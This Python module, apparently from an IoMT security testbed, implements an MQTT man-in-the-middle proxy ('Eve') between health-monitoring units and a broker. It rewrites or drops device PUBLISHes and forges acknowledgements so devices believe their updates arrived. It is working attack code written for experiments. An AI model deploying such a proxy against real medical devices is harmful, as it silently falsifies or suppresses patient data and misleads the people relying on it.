"""Eve's TCP proxy between one HMU and the broker: it relays MQTT and rewrites PUBLISHes.

Each accepted client gets its own upstream connection.  Both directions are cut into
whole control packets (:class:`iomt.adversary.mqtt_codec.PacketReader`); client -> broker
PUBLISHes go through the policy, everything else is relayed byte for byte.  Writes
towards the client happen only at packet boundaries, which is what lets Eve slip in
packets of her own.

Dropping with QoS > 0.  A client that sent a QoS 1 PUBLISH waits for its PUBACK and
resends it on reconnect; paho also counts it against its in-flight window.  So when
the policy drops one, Eve answers the PUBACK herself (QoS 2: PUBREC, then PUBCOMP for
the client's PUBREL, which the broker never sees).  The HMU's session stays healthy and
it believes the update was delivered.  She cannot do that once the broker -> client
stream has stopped parsing (it would corrupt it); then the PUBLISH is dropped unanswered.

Garbage (a stream that is not MQTT, e.g. TLS records) is relayed untouched and counted:
with TLS to the broker, Eve sees nothing she can parse.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from types import TracebackType
from typing import Any

import numpy as np

from iomt.adversary.config import MitmConfig
from iomt.adversary.mqtt_codec import (
    CONNACK,
    CONNECT,
    PUBACK,
    PUBCOMP,
    PUBLISH,
    PUBREC,
    PUBREL,
    Garbage,
    MalformedPacket,
    Packet,
    PacketReader,
    encode_ack,
    encode_publish,
    packet_id_of,
    parse_publish,
    protocol_level,
)
from iomt.adversary.policy import EvePolicy, PassThrough, Policy
from iomt.errors import BrokerError

log = logging.getLogger(__name__)

READ_SIZE = 65536
CONNECT_TIMEOUT_S = 10.0
STOP_TIMEOUT_S = 5.0


@dataclass
class ProxyStats:
    """What went through the proxy, over all its connections."""

    connections: int = 0
    upstream_failures: int = 0
    bytes_up: int = 0
    bytes_down: int = 0
    packets_up: int = 0
    packets_down: int = 0
    publishes: int = 0
    malformed_publishes: int = 0
    replaced: int = 0
    dropped: int = 0
    acks_injected: int = 0
    unanswered_drops: int = 0
    garbage_chunks: int = 0
    garbage_bytes: int = 0
    policy_errors: int = 0


@dataclass
class _Connection:
    client_reader: asyncio.StreamReader
    client_writer: asyncio.StreamWriter
    upstream_reader: asyncio.StreamReader
    upstream_writer: asyncio.StreamWriter
    up: PacketReader = field(default_factory=lambda: PacketReader(first_type=CONNECT))
    down: PacketReader = field(default_factory=lambda: PacketReader(first_type=CONNACK))
    mqtt5: bool = False
    dropped_qos2: set[int] = field(default_factory=set)


class MitmProxy:
    """A relay Eve controls: ``async with MitmProxy(host, port, policy=...) as eve:``.

    Clients connect to ``eve.host``/``eve.port``; ``eve.stats`` counts what went through.
    """

    def __init__(
        self,
        upstream_host: str,
        upstream_port: int,
        *,
        listen_host: str = "127.0.0.1",
        listen_port: int = 0,
        policy: Policy | None = None,
        name: str = "eve",
    ) -> None:
        self.upstream_host = upstream_host
        self.upstream_port = upstream_port
        self.host = listen_host
        self._listen_port = listen_port
        self.policy: Policy = policy if policy is not None else PassThrough()
        self.name = name
        self.stats = ProxyStats()
        self._server: asyncio.Server | None = None
        self._handlers: set[asyncio.Task[None]] = set()
        self._writers: set[asyncio.StreamWriter] = set()
        self._stopping = False

    @property
    def port(self) -> int:
        """The port clients connect to (the one the OS chose when ``listen_port`` is 0)."""
        if self._server is None:
            raise BrokerError(f"{self.name}: the proxy is not started")
        return int(self._server.sockets[0].getsockname()[1])

    async def start(self) -> MitmProxy:
        try:
            self._server = await asyncio.start_server(self._serve, self.host, self._listen_port)
        except OSError as exc:
            raise BrokerError(
                f"{self.name}: cannot listen on {self.host}:{self._listen_port}: {exc}"
            ) from exc
        log.info(
            "%s: relaying %s:%d -> %s:%d",
            self.name,
            self.host,
            self.port,
            self.upstream_host,
            self.upstream_port,
        )
        return self

    async def stop(self) -> None:
        """Stop listening and cut every relayed connection."""
        server, self._server = self._server, None
        if server is not None:
            server.close()
        self._stopping = True
        for writer in list(self._writers):
            writer.transport.abort()  # each pump then reads EOF and its relay winds down
        if self._handlers:
            _, stuck = await asyncio.wait(list(self._handlers), timeout=STOP_TIMEOUT_S)
            for task in stuck:  # e.g. still connecting upstream
                task.cancel()
            await asyncio.gather(*stuck, return_exceptions=True)
        self._stopping = False
        if server is not None:
            await server.wait_closed()

    async def __aenter__(self) -> MitmProxy:
        return await self.start()

    async def __aexit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        await self.stop()

    # -- one relayed connection ----------------------------------------------------------

    async def _serve(
        self, client_reader: asyncio.StreamReader, client_writer: asyncio.StreamWriter
    ) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._handlers.add(task)
        self._writers.add(client_writer)
        try:
            await self._relay(client_reader, client_writer)
        except asyncio.CancelledError:
            # asyncio's server callback logs a cancelled handler as an error: only stop()
            # cancels us, and it is waiting for exactly this
            if not self._stopping:
                raise
        finally:
            self._writers.discard(client_writer)
            self._handlers.discard(task)

    async def _relay(
        self, client_reader: asyncio.StreamReader, client_writer: asyncio.StreamWriter
    ) -> None:
        try:
            upstream_reader, upstream_writer = await asyncio.wait_for(
                asyncio.open_connection(self.upstream_host, self.upstream_port),
                CONNECT_TIMEOUT_S,
            )
        except (OSError, TimeoutError) as exc:
            self.stats.upstream_failures += 1
            log.warning("%s: cannot reach the broker: %s", self.name, exc)
            await _close(client_writer)
            return
        self._writers.add(upstream_writer)
        self.stats.connections += 1
        conn = _Connection(client_reader, client_writer, upstream_reader, upstream_writer)
        pumps = [
            asyncio.create_task(self._pump_up(conn)),
            asyncio.create_task(self._pump_down(conn)),
        ]
        try:
            # whichever side closes first ends the relay: MQTT has no half-closed use
            await asyncio.wait(pumps, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for pump in pumps:
                pump.cancel()
            await asyncio.gather(*pumps, return_exceptions=True)
            self._writers.discard(upstream_writer)
            await _close(upstream_writer)
            await _close(client_writer)

    async def _pump_up(self, conn: _Connection) -> None:
        """Client -> broker: PUBLISHes through the policy, the rest as it came."""
        while True:
            try:
                data = await conn.client_reader.read(READ_SIZE)
            except ConnectionError:
                return
            if not data:
                return
            self.stats.bytes_up += len(data)
            out = self._relay_up(conn, conn.up.feed(data))
            if out and not await _send(conn.upstream_writer, out):
                return

    async def _pump_down(self, conn: _Connection) -> None:
        """Broker -> client: relayed untouched, but only ever in whole packets."""
        while True:
            try:
                data = await conn.upstream_reader.read(READ_SIZE)
            except ConnectionError:
                return
            if not data:
                return
            self.stats.bytes_down += len(data)
            out = bytearray()
            for item in conn.down.feed(data):
                if isinstance(item, Garbage):
                    self._count_garbage(item, "broker -> client", conn.down)
                    out += item.data
                else:
                    self.stats.packets_down += 1
                    out += item.raw
            if out and not await _send(conn.client_writer, bytes(out)):
                return

    def _relay_up(self, conn: _Connection, items: Iterable[Packet | Garbage]) -> bytes:
        out = bytearray()
        for item in items:
            if isinstance(item, Garbage):
                self._count_garbage(item, "client -> broker", conn.up)
                out += item.data
                continue
            self.stats.packets_up += 1
            if item.type == CONNECT:
                with contextlib.suppress(MalformedPacket):
                    conn.mqtt5 = protocol_level(item) == 5
            elif item.type == PUBLISH:
                out += self._on_publish(conn, item)
                continue
            elif item.type == PUBREL and conn.dropped_qos2:
                with contextlib.suppress(MalformedPacket):
                    packet_id = packet_id_of(item)
                    if packet_id in conn.dropped_qos2:
                        # the broker never saw this PUBLISH: finish the handshake ourselves
                        conn.dropped_qos2.discard(packet_id)
                        self._inject(conn, encode_ack(PUBCOMP, packet_id))
                        continue
            out += item.raw
        return bytes(out)

    def _on_publish(self, conn: _Connection, packet: Packet) -> bytes:
        self.stats.publishes += 1
        try:
            publish = parse_publish(packet, mqtt5=conn.mqtt5)
        except MalformedPacket as exc:
            self.stats.malformed_publishes += 1
            log.debug("%s: unparsable PUBLISH relayed as is: %s", self.name, exc)
            return packet.raw
        try:
            decision = self.policy.decide(publish.topic, publish.payload)
        except Exception:  # a policy bug must not cut the HMU off and skew the experiment
            self.stats.policy_errors += 1
            log.exception("%s: policy failed on %s; relayed as is", self.name, publish.topic)
            return packet.raw
        if decision.verdict == "pass":
            return packet.raw
        if decision.verdict == "replace" and decision.payload is not None:
            self.stats.replaced += 1
            return encode_publish(publish.with_payload(decision.payload), mqtt5=conn.mqtt5)
        self.stats.dropped += 1
        if publish.packet_id is not None:
            if publish.qos == 1:
                self._inject(conn, encode_ack(PUBACK, publish.packet_id))
            else:
                conn.dropped_qos2.add(publish.packet_id)
                self._inject(conn, encode_ack(PUBREC, publish.packet_id))
        return b""

    def _inject(self, conn: _Connection, packet: bytes) -> None:
        """Write one packet of Eve's own to the client, between two relayed packets."""
        if conn.down.broken is not None:
            # the down pump relays blind: we no longer know where its packets end
            self.stats.unanswered_drops += 1
            return
        conn.client_writer.write(packet)
        self.stats.acks_injected += 1

    def _count_garbage(self, item: Garbage, direction: str, reader: PacketReader) -> None:
        if reader.garbage_bytes == len(item.data):  # the first chunk since it broke
            log.warning(
                "%s: %s stream is not MQTT (%s); relaying it blind",
                self.name,
                direction,
                reader.broken,
            )
        self.stats.garbage_chunks += 1
        self.stats.garbage_bytes += len(item.data)


async def _send(writer: asyncio.StreamWriter, data: bytes) -> bool:
    try:
        writer.write(data)
        await writer.drain()
    except ConnectionError:
        return False
    return True


async def _close(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with contextlib.suppress(ConnectionError, OSError):
        await writer.wait_closed()


def route_through(client_kwargs: dict[str, Any], proxy: MitmProxy) -> dict[str, Any]:
    """``aiomqtt.Client`` keyword arguments that connect via ``proxy`` instead of directly."""
    return {**client_kwargs, "hostname": proxy.host, "port": proxy.port}


@asynccontextmanager
async def start_eves(
    config: MitmConfig, upstream_host: str, upstream_port: int, rng: np.random.Generator
) -> AsyncIterator[dict[str, MitmProxy]]:
    """One proxy (with its own :class:`EvePolicy`) per HMU of ``config``; none if disabled.

    Each policy gets an independent child of ``rng``, in the order of ``config.hmus``.
    """
    proxies: dict[str, MitmProxy] = {}
    if not config.enabled:
        yield proxies
        return
    seeds = rng.spawn(len(config.hmus))
    try:
        for hmu, child in zip(config.hmus, seeds, strict=True):
            policy = EvePolicy.from_config(config, child)
            proxies[hmu] = await MitmProxy(
                upstream_host, upstream_port, policy=policy, name=f"eve-{hmu}"
            ).start()
        yield proxies
    finally:
        for proxy in proxies.values():
            await proxy.stop()
